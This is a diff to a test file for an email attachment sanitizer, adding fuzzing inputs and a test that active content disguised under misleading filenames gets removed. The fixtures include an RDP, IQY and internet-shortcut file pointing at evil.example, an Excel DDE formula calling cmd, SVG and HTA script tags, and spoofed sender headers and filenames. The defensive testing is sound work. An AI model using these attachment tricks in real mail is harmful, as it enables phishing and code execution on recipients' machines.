@@ -45,7 +45,22 @@ content_types = st.sampled_from(
         "",
     ]
 )
-ctes = st.sampled_from(["base64", "quoted-printable", "7bit", "8bit", "binary", "x-unknown", ""])
+ctes = st.sampled_from(
+    [
+        "base64",
+        "quoted-printable",
+        "7bit",
+        "8bit",
+        "binary",
+        "x-unknown",
+        "",
+        "base64 (comment)",
+        "(c) quoted-printable",
+        "base64 (unclosed",
+    ]
+)
+# UTF-7 that decodes to a lone surrogate (it used to crash composition).
+LONE_SURROGATE_WORD = "=?utf-7?Q?+2D0-?="
 
 
 @st.composite
@@ -53,7 +68,11 @@ def secret_attachment(draw: st.DrawFn) -> tuple[bytes, bytes]:
     """A base64 attachment holding a marker unique in its message, and the marker."""
     counter = draw(st.shared(st.builds(itertools.count), key="secrets"))  # one per example
     secret = SECRET_PREFIX + str(next(counter)).encode() + b"-"
-    name = draw(st.sampled_from(["a.exe", "b.pdf", "c.docm", "\u202eexe.txt", "d.zip."]))
+    name = draw(
+        st.sampled_from(
+            ["a.exe", "b.pdf", "c.docm", "\u202eexe.txt", "d.zip.", LONE_SURROGATE_WORD + ".txt"]
+        )
+    )
     kind = draw(st.sampled_from(["application/octet-stream", "application/pdf", "text/plain"]))
     extra = draw(st.lists(st.tuples(st.just("Content-Type"), content_types), max_size=1))
     body = base64.encodebytes(secret * 2).replace(b"\n", CRLF)
@@ -84,6 +103,8 @@ def hostile_leaf(draw: st.DrawFn) -> tuple[bytes, list[bytes]]:
             )
         )
         return headers(*extra) + draw(text_leaf()), []
+    if choice == 2 and draw(st.booleans()):  # UTF-7 text decoding to a lone surrogate
+        return headers(("Content-Type", "text/plain; charset=utf-7")) + CRLF + b"a +2D0- b", []
     if choice == 2:  # an attached mail
         inner_part, secrets = draw(st.deferred(lambda: hostile_leaf()))
         inner = headers(("From", "inner@example.jp"), ("Subject", draw(text))) + inner_part
@@ -127,6 +148,9 @@ top_headers = st.lists(
                     '"boss@city.lg.jp" <evil@x.example>',
                     "a@x.example, b@y.example",
                     "(" * 50 + "a@x",
+                    LONE_SURROGATE_WORD,
+                    f"{LONE_SURROGATE_WORD} <a@x.example>",
+                    "=?utf-8?b?YWRtaW7vvKBjaXR5LmxnLmpw?= <evil@x.example>",  # admin＠city.lg.jp
                 ]
             ),
         ),
@@ -191,3 +215,87 @@ def test_regression_corpus_replays(path: Path) -> None:
     out = assert_safe(result)
     for line in text_of(out).splitlines():
         assert not line.lower().startswith(("begin 644 ", "=ybegin "))
+
+
+# --- names that lie, text that is not text (issue 11) -------------------------------------
+
+ACTIVE_MARK = b"ACTIVE-SECRET"
+# Text an application opens as something active, each carrying the marker.
+ACTIVE_TEXTS = [
+    b"{\\rt{\\object\\objemb{\\*\\objclass Package}{\\*\\objdata " + ACTIVE_MARK + b"}}}",
+    b'<svg xmlns="http://www.w3.org/2000/svg"><script>' + ACTIVE_MARK + b"</script></svg>",
+    b'<hta:application id="x"/><script>' + ACTIVE_MARK + b"</script>",
+    b"full address:s:evil.example\r\nalternate shell:s:" + ACTIVE_MARK + b"\r\n",
+    b"WEB\r\n1\r\nhttp://evil.example/" + ACTIVE_MARK + b"\r\n",
+    b'<?xml version="1.0"?><?mso-application progid="Excel.Sheet"?><Workbook xmlns="urn:'
+    b'schemas-microsoft-com:office:spreadsheet"><Cell ss:Formula="=cmd|x!A0">'
+    + ACTIVE_MARK
+    + b"</Cell></Workbook>",
+    b"[InternetShortcut]\r\nURL=file://evil.example/" + ACTIVE_MARK + b"\r\n",
+]
+name_stems = st.sampled_from(["invoice", "請求書", "", "CON", "a\u202etxt", "x\u200b"])
+name_extensions = st.sampled_from(["doc", "rtf", "svg", "hta", "rdp", "iqy", "xml", "txt", "csv"])
+name_tails = st.sampled_from(["", ".", " ", ". . .", "\u3000", "\uff0e", "::$DATA", ":a.txt"])
+# Extensions a delivered attachment may carry, by its content type.
+DELIVERED = {
+    "text/plain": {"txt", "text", "log", "md", "json", "ics", "vcf"},
+    "text/csv": {"csv"},
+    "text/tab-separated-values": {"tsv"},
+}
+POLICY_CDR = Policy()
+
+
+@settings(max_examples=150, deadline=None)
+@given(
+    content=st.one_of(
+        st.sampled_from(ACTIVE_TEXTS),
+        st.sampled_from(["お知らせ\r\n", "a,b\r\n+81-3-1234-5678,=1+1\r\n"]).map(str.encode),
+    ),
+    stem=name_stems,
+    extension=name_extensions,
+    tail=name_tails,
+    declared=st.sampled_from(["text/plain", "application/octet-stream", "application/msword"]),
+    utf16=st.booleans(),
+)
+def test_lying_names_never_make_active_text_cross(
+    content: bytes, stem: str, extension: str, tail: str, declared: str, utf16: bool
+) -> None:
+    """Whatever the name claims and however it ends, active text never crosses, and what
+    crosses is named with an extension of the type it was rebuilt as, without tricks."""
+    from urllib.parse import quote
+
+    from sanitizers.cdr.registry import InProcessDisarmer
+    from sanitizers.pipeline import sanitize_message
+
+    if utf16:
+        content = b"\xff\xfe" + content.decode("utf-8").encode("utf-16-le")
+    name = f"{stem}.{extension}{tail}"
+    part = (
+        headers(
+            ("Content-Type", declared),
+            ("Content-Disposition", f"attachment; filename*=utf-8''{quote(name)}"),
+            ("Content-Transfer-Encoding", "base64"),
+        )
+        + CRLF
+        + base64.encodebytes(content).replace(b"\n", CRLF)
+    )
+    raw = headers(
+        ("From", "a@example.jp"),
+        ("MIME-Version", "1.0"),
+        ("Content-Type", 'multipart/mixed; boundary="b"'),
+    )
+    raw += CRLF + b"--b\r\n" + headers(("Content-Type", "text/plain")) + CRLF + b"x\r\n"
+    raw += b"--b\r\n" + part + b"\r\n--b--\r\n"
+    result = sanitize_message(raw, POLICY_CDR, disarmer=InProcessDisarmer())
+    out = assert_safe(result)
+    attachment = result.report.parts[-1]
+    if ACTIVE_MARK in content or ACTIVE_MARK.decode().encode("utf-16-le") in content:
+        assert attachment.action.value == "removed", attachment
+    for item in out.walk():
+        filename = item.get_filename()
+        if filename is None:
+            continue
+        allowed = DELIVERED[item.get_content_type()]
+        assert filename.rpartition(".")[2] in allowed, filename
+        assert not any(c in filename for c in ":\u202e\u200b\u3000\uff0e"), filename
+        assert filename == filename.strip(" .")
